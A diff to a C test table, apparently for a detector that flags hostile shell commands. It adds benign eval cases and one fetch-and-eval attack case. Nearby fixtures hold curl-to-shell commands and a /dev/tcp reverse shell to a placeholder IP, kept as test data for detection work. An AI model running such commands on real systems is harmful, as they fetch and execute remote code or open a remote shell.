@@ -1878,6 +1878,11 @@ static const struct exec_case ordinary[] = {
 	  ARGV("docker", "run", "--rm", "-v", "/src:/src", "-v", "/var/run/docker.sock:/var/run/docker.sock",
 	       "-w", "/src", "golang:1.22", "go", "build"), SH_MAKE, NULL },
 	{ "/usr/bin/nsenter", ARGV("nsenter", "--net=/run/netns/ci", "ip", "addr"), SH_MAKE, NULL },
+	/* eval of a local tool's output, and a download kept as data */
+	{ "/usr/bin/bash", ARGV("bash", "-c", "eval \"$(ssh-agent -s)\" && ssh-add k"), SH_MAKE, NULL },
+	{ "/usr/bin/bash", ARGV("bash", "-c", "eval \"$(pyenv init -)\"; make"), SH_MAKE, NULL },
+	{ "/usr/bin/bash", ARGV("bash", "-c", "v=$(curl -s https://x/VERSION); echo $v"), SH_MAKE,
+	  NULL },
 };
 
 static const struct exec_case attacks[] = {
@@ -1892,6 +1897,8 @@ static const struct exec_case attacks[] = {
 	{ "/usr/bin/dash", ARGV("sh", "-c", "bash -c \"$(curl -fsSL https://x/install.sh)\""),
 	  SH_MAKE, "download-piped-to-shell" },
 	{ "/usr/bin/bash", ARGV("bash", "-c", "source <(curl -s https://x/env)"), SH_MAKE,
+	  "download-piped-to-shell" },
+	{ "/usr/bin/bash", ARGV("bash", "-c", "eval \"$(curl -fsSL https://x/setup-env)\""), SH_MAKE,
 	  "download-piped-to-shell" },
 	{ "/usr/bin/bash", ARGV("bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"), NPM_ANC,
 	  "reverse-shell-dev-tcp" },
